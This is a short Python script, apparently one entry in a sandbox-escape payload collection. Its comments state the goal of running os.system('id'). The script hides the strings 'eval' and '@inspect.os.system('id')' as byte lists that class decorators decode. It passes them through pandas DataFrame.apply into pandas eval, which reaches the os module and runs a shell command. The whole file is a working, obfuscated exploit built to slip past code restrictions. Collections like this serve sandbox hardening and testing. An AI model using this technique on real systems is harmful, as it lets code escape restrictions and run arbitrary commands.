# source: pandas DataFrame.apply(str, args=...) -> apply_str -> DataFrame.eval; pandas eval '@' locals resolve in pandas.core.apply frame (imports inspect)
# family: class statements rebound by decorators to strings; method name + expression reach pandas eval through apply(args=)
# goal: os.system('id') via pandas.core.apply's inspect.os
import pandas as pd

def as_text(codes):
    def deco(cls):
        return bytes(codes).decode()
    return deco

@as_text([101, 118, 97, 108])
class Reducer:
    pass

@as_text([64, 105, 110, 115, 112, 101, 99, 116, 46, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 105, 100, 39, 41])
class Spec:
    pass

df = pd.DataFrame({"px": [1.0, 2.0]})
try:
    df.apply(Reducer, args=(Spec,))
except AttributeError:
    pass
